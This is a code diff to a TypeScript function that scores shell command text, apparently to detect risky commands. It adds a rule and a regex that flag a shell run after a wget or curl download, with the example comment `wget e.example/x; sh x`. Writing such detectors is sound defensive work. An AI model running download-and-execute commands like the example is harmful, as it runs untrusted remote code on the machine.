@@ -44,6 +44,14 @@ export function posixScore(place: Place, binary: Binary, flags: number, a: Argum
   if (op !== '^' && /^\s*#\s*$/.test(text.slice(a.end, a.end + 8)) && text.length - a.end < 8) score += 12;
   if (op !== '^' && a.quoted > 0 && /\bsh -c\b|\/bin\/(?:ba|da|z)?sh\b/.test(text.slice(from, a.end)))
     score = Math.max(score, 66);
+  // `wget e.example/x; sh x`
+  if (
+    op !== '^' &&
+    a.count === 1 &&
+    /^(?:ba|z|da)?sh$/.test(binary.name) &&
+    fetched.test(text.slice(0, from))
+  )
+    score = Math.max(score, 60);
   score -= pasted(place, binary, a, score);
   const few = a.bares + a.numbers === a.count && a.count < 3;
   if (op === '$(' && few && text.charCodeAt(a.end) === 41) return Math.max(score, 54);
@@ -54,6 +62,7 @@ export function posixScore(place: Place, binary: Binary, flags: number, a: Argum
   return score;
 }
 
+const fetched = /\b(?:wget|curl) \S*[\w/]\.\w|\b(?:wget|curl) [^;|&]{0,60}:\/\//;
 const textual = new Set(['reader', 'print', 'system', 'file', 'sleep', 'decoder']);
 const filters = new Set([
   'awk',
